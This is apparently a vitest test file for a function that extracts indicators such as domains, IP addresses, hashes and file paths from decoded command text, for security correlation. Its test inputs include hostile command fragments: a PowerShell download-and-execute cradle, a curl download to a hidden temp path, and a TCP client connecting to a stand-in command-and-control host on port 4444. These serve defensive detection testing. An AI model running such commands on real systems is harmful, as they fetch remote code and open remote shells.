import { describe, expect, test } from 'vitest';
import { indicatorsIn } from './correlation.decoded.ts';

const valuesOf = (decoded: string, original = '') => indicatorsIn(decoded, original).map(({ kind, value }) => `${kind} ${value}`);

describe('indicatorsIn', () => {
  test('finds the host and the file of a download', () => {
    expect(valuesOf("IEX (New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1')")).toEqual([
      'domain files.example.net',
      'file a.ps1',
    ]);
  });

  test('finds addresses, hashes and paths', () => {
    const sha256 = 'ab'.repeat(32);
    expect(valuesOf(`curl 203.0.113.9:8080 -o /tmp/.x/run; echo ${sha256}; copy C:\\Users\\Public\\svc.exe`)).toEqual([
      'destinationIp 203.0.113.9',
      `hash ${sha256}`,
      'file C:\\Users\\Public\\svc.exe',
      'file /tmp/.x/run',
    ]);
  });

  test('finds a quoted domain and an internal address', () => {
    expect(valuesOf("New-Object Net.Sockets.TCPClient('c2.example.org',4444); ping 10.1.2.3")).toEqual([
      'destinationIp 10.1.2.3',
      'domain c2.example.org',
    ]);
  });

  test('takes no type, version or file for a domain or an address', () => {
    expect(valuesOf("[System.Net.WebClient] 'System.Net.Sockets' Version=4.0.0.0 'setup.sh'")).toEqual(['file setup.sh']);
  });

  test('leaves what the original holds', () => {
    expect(valuesOf("x 'http://203.0.113.9/a'", 'x 203.0.113.9')).toEqual([]);
  });

  test('stays bounded and quick on hostile text', () => {
    const started = performance.now();
    for (const unit of ["'a.", '//a', '1.1.1.1 ', '/tmp/', 'C:\\', 'a.exe.', 'abcdef01'])
      expect(indicatorsIn(unit.repeat(300_000), '').length).toBeLessThanOrEqual(30);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
